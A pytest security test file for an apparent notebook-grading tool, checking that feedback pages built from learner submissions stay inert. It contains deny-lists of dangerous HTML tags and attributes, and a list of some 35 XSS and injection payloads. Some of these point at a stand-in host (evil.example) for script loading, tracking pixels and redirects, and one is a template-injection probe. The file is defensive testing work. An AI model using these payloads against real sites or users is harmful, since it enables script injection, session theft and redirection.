"""Nothing in a feedback page runs or loads: every tag and attribute of what learners wrote is looked at."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from naruteo_hub.grading import Result, grade
from naruteo_testing.notebooks import code, fill_in, text

from .conftest import QUICK, RIGHT, HandIn, assert_full_marks, grade_notebook

RUNS = {
    *("script", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea", "select"),
    *("meta", "base", "style", "video", "audio", "source", "track", "template", "frame", "frameset", "applet"),
    *("noscript", "marquee", "animate", "foreignobject", "use", "image", "dialog", "slot", "title", "html"),
    *("body", "link", "set", "portal"),
}
LOADS = {
    *("src", "href", "srcset", "action", "formaction", "data", "poster", "background", "ping", "xlink:href"),
}
PICTURE = re.compile(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+\Z")
ADDRESS = re.compile(r"#nb-|https?://")


class Inspector(HTMLParser):
    """Collects what a browser could act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in RUNS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc", "is", "nonce", "autofocus", "contenteditable"):
                self.faults.append(f"{tag} {name}={value}")
            if name == "id":
                self.ids.append(value)
            if name in LOADS and not PICTURE.match(value) and not (tag == "a" and ADDRESS.match(value)):
                self.faults.append(f"{tag} {name}={value[:80]}")

    handle_startendtag = handle_starttag


def assert_inert(result: Result) -> None:
    for pages in result.feedback.values():
        for page in pages.values():
            inspector = Inspector()
            inspector.feed(page)
            assert inspector.faults == []
            assert all(each.startswith("nb-") for each in inspector.ids)
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", page)


VECTORS = {
    "script": "<script>alert(1)</script>",
    "script_in_pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script_upper_case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "handler": "<img src=x onerror=alert(1)>",
    "handler_with_slash": "<img/src=x/onerror=alert(1)>",
    "handler_by_line_break": "<img src=x\nonerror\n=\nalert(1)>",
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg_link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg_picture": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "address": "<a href='javascript:alert(1)'>x</a>",
    "address_hidden": "<a href='java\tscript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a>",
    "address_of_data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "form": "<form action='//evil.example'><button formaction='//evil.example'>Hand in again</button></form>",
    "style": "<style>@import '//evil.example/x.css'; * {display: none}</style><p style='position:fixed;inset:0'>x</p>",
    "redirect": "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "picture_elsewhere": "<img src='https://evil.example/pixel.png?who=me' srcset='//evil.example/x 2x'>",
    "clobber": "<a id=nb-1 name=submit>x</a><img name=getElementById><p id=csrf_token class='k-button'>x</p>",
    "cut_tag": "<img src='x' onerror='alert(1)'",
    "closing_tags": "</pre></div></section></main></body></html><script>alert(1)</script>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "markdown": "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [y]: javascript:alert(1)",
    "markdown_breaks_out": '![x](a"onerror="alert(1)) [x](" onclick=alert(1) ")',
    "markdown_code": "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "latex": "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$",
    "terminal": "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[31m<b onclick=alert(1)>\x1b[0m",
    "direction": "\u202e<script>\u2066alert(1)\u2069</script>",
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "unicode": "＜script＞alert(1)＜/script＞ \ufeff<script\u2028>alert(1)</script\u2028>",
    "nesting": "<b>" * 20_000 + "<img src=x onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
}
DISPLAY = (
    "from IPython.display import display\n"
    "vector = {vector!r}\n"
    "for kind in ('text/html', 'text/markdown', 'text/latex', 'image/svg+xml', 'text/plain', 'application/json',\n"
    "             'application/javascript', 'application/vnd.jupyter.widget-view+json', 'image/png', vector):\n"
    "    display({{kind: vector}}, raw=True)\n"
    "display({{'text/html': [vector], 'text/plain': {{'a': vector}}}}, raw=True)\n"
    "print(vector)\n"
    "import sys\nprint(vector, file=sys.stderr)\n"
    "class Evil(Exception):\n    pass\n"
    "Evil.__name__ = Evil.__qualname__ = vector.replace('\\0', '')\n"
    "Evil.__module__ = vector\n"
    "fault = Evil(vector)\n"
    "fault.add_note(vector)\n"
    "raise fault\n"
)


@pytest.mark.parametrize("vector", VECTORS)
def test_outputs_texts_and_errors_are_inert(exam: Path, released: bytes, tmp_path: Path, vector: str) -> None:
    hostile = VECTORS[vector]
    content = fill_in(released, RIGHT)
    content["cells"] += [
        text(hostile),
        text(f"# {hostile}"),
        code(DISPLAY.format(vector=hostile)),
        code(f"{hostile!r}"),
    ]
    content["cells"].append(code(f"class Loud:\n    def _repr_html_(self):\n        return {hostile!r}\nLoud()"))
    content["cells"].append({**code("pass"), "metadata": {"name": hostile, "tags": [hostile]}})
    result = grade_notebook(exam, content, tmp_path, {}, QUICK)
    assert_inert(result)
    assert_full_marks(result)


@pytest.mark.parametrize("vector", ["script", "handler", "closing_tags", "template", "terminal", "direction"])
def test_errors_within_tests_are_inert(hand_in: HandIn, vector: str) -> None:
    hostile = VECTORS[vector]
    answer = f"def mean(values):\n    raise type({hostile!r}, (Exception,), {{}})({hostile!r})"
    loud = f"def twice(number):\n    print({hostile!r})\n    return {hostile!r}"
    assert_inert(hand_in(RIGHT | {"mean": answer, "twice": loud}))


def test_names_of_files_and_cells_are_inert(exam: Path, released: bytes, tmp_path: Path) -> None:
    folder = tmp_path / "submission"
    content = fill_in(released, RIGHT)
    for number, vector in enumerate(VECTORS.values()):
        forged = {
            "schema_version": 3,
            "grade": True,
            "grade_id": vector,
            "points": 1,
            "locked": True,
            "solution": False,
        }
        content["cells"].append({**code("1"), "id": vector, "metadata": {"nbgrader": forged}})
        name = "".join(sign for sign in vector if sign not in "/\0")[:50] or str(number)
        folder.mkdir(exist_ok=True)
        (folder / f"{name}.ipynb").write_text("x", encoding="utf-8")
    result = grade_notebook(exam, content, tmp_path, {}, QUICK)
    assert_inert(result)
    assert_full_marks(result)
    for flag in result.flags:
        assert "\x1b" not in flag.evidence and "\u202e" not in flag.evidence and len(flag.evidence) < 5_000


def test_a_picture_that_is_no_picture_is_not_shown(hand_in: HandIn) -> None:
    show = (
        "from IPython.display import display\nimport base64\n"
        "for content in (b'<svg onload=alert(1)>', b'GIF89a', b'', b'\\x89PNG<script>'):\n"
        "    display({'image/png': base64.b64encode(content).decode()}, raw=True)\n"
        "display({'image/png': 'x\" onerror=\"alert(1)'}, raw=True)\n"
        "display({'image/jpeg': 7}, raw=True)"
    )
    result = hand_in(RIGHT, after=[show])
    assert_inert(result)
    assert "<img" not in result.feedback["en"]["exam"]


def test_the_page_of_an_honest_notebook_keeps_its_tables_and_pictures(
    exam: Path, released: bytes, tmp_path: Path
) -> None:
    content = fill_in(released, RIGHT)
    content["cells"] += [
        text("**Bold** and [a link](https://example.org/)"),
        code("import pandas as pd\npd.DataFrame({'a': [1]})"),
        code("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()"),
    ]
    result = grade_notebook(exam, content, tmp_path, {}, QUICK)
    assert_inert(result)
    page = result.feedback["en"]["exam"]
    assert "<table" in page and "data:image/png;base64," in page and 'href="https://example.org/"' in page


def test_a_refusal_says_nothing_that_a_page_would_run(exam: Path, tmp_path: Path) -> None:
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "<img src=x onerror=alert(1)>\u202e.ipynb").write_text("{}", encoding="utf-8")
    result = grade(exam, "week1", folder)
    assert result.state == "refused" and "\u202e" not in result.flags[0].evidence
